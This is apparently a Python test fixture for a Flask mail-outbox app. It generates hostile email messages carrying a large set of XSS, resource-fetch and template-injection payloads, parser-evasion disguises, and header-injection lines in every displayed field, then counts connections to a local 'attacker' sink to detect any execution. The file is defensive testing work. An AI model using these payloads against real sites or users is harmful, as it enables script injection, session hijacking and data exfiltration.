"""Hostile mail, which tries to attack whoever reads it."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator
from itertools import islice, product
from typing import Self

from flask_outbox.delivery import Envelope
from flask_outbox.outbox import new_id
from flask_outbox.outbox.records import NewMessage
from tests.servers.ports import listening

RUN = "console.log('RAN');top.RAN=1;document.title='RAN';fetch('{sink}/ran')"
"""What each script tries, so that any execution is noticed."""

ATTACKS = (
    "<script>{run}</script>",
    "<script src='{sink}/a.js'></script>",
    "<script type=module>import '{sink}/a.js'</script>",
    "<script type=speculationrules>"
    '{{"prefetch":[{{"source":"list","urls":["{sink}/s"]}}]}}</script>',
    '<img src=x onerror="{run}">',
    "<img src='{sink}/a.png' srcset='{sink}/b.png 2x'>",
    "<img src='{own}/a.png'>",
    "<picture><source srcset='{sink}/p.png'><img></picture>",
    '<svg onload="{run}"></svg>',
    "<svg><script>{run}</script></svg>",
    "<svg><image href='{sink}/i.png'/><use href='{sink}/u.svg#x'/></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src=x onerror="{run}">',
    "<body onload=\"{run}\" background='{sink}/bg.png'>",
    "<meta http-equiv=refresh content='0;url={sink}/refresh'>",
    "<meta http-equiv=refresh content='0;url={own}/refresh'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    "<base href='{sink}/' target=_top><a href=x>x</a><img src=x.png>",
    "<link rel=stylesheet href='{sink}/a.css'>",
    "<link rel=preconnect href='{sink}'><link rel=dns-prefetch href='{sink}'>",
    "<link rel=prefetch href='{sink}/f'><link rel=prerender href='{sink}/g'>",
    "<link rel=preload as=font href='{sink}/f.woff' crossorigin>",
    "<link rel=modulepreload href='{sink}/m.js'><link rel=icon href='{sink}/i'>",
    "<style>@import '{sink}/a.css';</style>",
    "<style>body{{background:url({sink}/b.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({sink}/f.woff)}}*{{font-family:x}}</style>",
    "<p style=\"background:url('{sink}/s.png');list-style:url('{sink}/l.png')\">x</p>",
    '<p style="width:expression({run});-moz-binding:url({sink}/x)">x</p>',
    "<iframe src='{sink}/frame'></iframe><iframe src='{own}/frame'></iframe>",
    '<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:{run}"></iframe>',
    "<frameset><frame src='{sink}/frame'></frameset>",
    "<object data='{sink}/o'></object><embed src='{sink}/e'>",
    '<object data="data:text/html,<script>{run}</script>"></object>',
    "<applet code=x archive='{sink}/a.jar'></applet><param value='{sink}/p'>",
    "<video autoplay poster='{sink}/p.png' src='{sink}/v.mp4' onerror=\"{run}\">",
    "<audio autoplay src='{sink}/a.mp3'></audio><track src='{sink}/t.vtt'>",
    "<video><source src='{sink}/v.mp4' onerror=\"{run}\"></video>",
    "<form action='{sink}/form' method=post><input name=x><button autofocus>x</button>"
    "</form>",
    "<form id=f action='{own}/form'></form><button form=f formaction='{sink}/fa'>x",
    "<input type=image src='{sink}/in.png' onfocus=\"{run}\" autofocus>",
    "<a href='{sink}/link'>x</a><area href='{sink}/area' shape=default>",
    '<a href="javascript:{run}" autofocus onfocus="{run}">x</a>',
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href='{own}/link' target=_top ping='{sink}/ping'>x</a>",
    "<a href='{sink}/blank' target=_blank rel=opener>x</a>",
    "<a href='{sink}/d' download>x</a>",
    '<details open ontoggle="{run}"><summary>x</summary></details>',
    '<marquee onstart="{run}">x</marquee><p onpointerover="{run}">x</p>',
    '<template><script>{run}</script></template><dialog open onclose="{run}">x',
    "<div style='position:fixed;inset:0'><a href='{sink}/cover'>x</a></div>",
    "{{{{499*577}}}}{{% for x in [] %}}${{499*577}}#{{499*577}}<%= 499*577 %>"
    "{{{{config}}}}",
    "<div hx-get='{sink}/hx' hx-trigger=load hx-on:click=\"{run}\">x</div>",
    "<div data-hx-get='{own}/hx' data-hx-trigger=load data-stream='{sink}/sse'>x</div>",
)
"""Elements that would fetch, run, frame, submit or navigate."""

EVALUATED = str(499 * 577)
"""The result if a page evaluated their template syntax."""

DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.swapcase,
    lambda one: f"<table><tr><td>{one}",
    lambda one: f"<!--><p>{one}--!>{one}",
    lambda one: f"</pre></textarea></title></style></iframe></script>{one}",
    lambda one: f'<noscript><p title="</noscript>{one}"></noscript>',
    lambda one: f"<svg><foreignObject>{one}</foreignObject></svg>",
    lambda one: one.replace("<", "<\0", 1).replace(" ", "\x0c") + one,
    lambda one: f"\u202e\ufeff{one}\u2028\u0000\ud7ff",
    lambda one: one.replace(" ", "/").replace("=", "=\n") + one.replace(" ", "\t"),
)
"""Ways to deceive a parser that is not the browser's."""


def attacks(sink: str, own: str) -> Iterator[str]:
    """Every attack in every disguise: on ``sink``, another host, and on ``own``."""
    for disguise, attack in product(DISGUISES, ATTACKS):
        run = RUN.format(sink=sink)
        yield disguise(attack.format(run=run, sink=sink, own=own))


def hostile_messages(sink: str, own: str, count: int) -> Iterator[NewMessage]:
    """Messages with an attack in everything that a page shows of them."""
    for attack in islice(attacks(sink, own), count):
        line = " ".join(attack.split())[:200].replace("\0", "")
        yield NewMessage(
            id=new_id(),
            envelope=Envelope("shop@example.com", (f'"{line[:60]}"@example.org',)),
            rfc_message_id=f"<{line}>",
            subject=line,
            content=_content(attack, line),
            enqueued_at=1e9,
            due_at=1e10,
            give_up_at=2e10,
            tag=line[:200],
            key=f"{new_id()}{line[:60]}",
            metadata=json.dumps({line: attack}),
            origin={
                "method": line,
                "route": line,
                "endpoint": line,
                "request_id": line,
            },
        )


def _content(attack: str, line: str) -> bytes:
    return (
        f"Subject: {line}\nX-Evil: {line}\nSet-Cookie: {line}\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n'
        f"--b\nContent-Type: text/plain\n\n{attack}\n"
        f"--b\nContent-Type: text/html; charset=utf-8\n\n{attack}\n"
        f"--b\nContent-Type: text/html\nContent-Disposition: attachment; "
        f'filename="{line}.html"\n\n{attack}\n--b--\n'
    ).encode("utf-8", "surrogatepass")


class Sink:
    """The attacker's host: a port on which every connection is counted."""

    def __enter__(self) -> Self:
        self.connections = 0
        self._listener = listening()
        self.address = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        self._thread = threading.Thread(target=self._count, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()

    def _count(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()
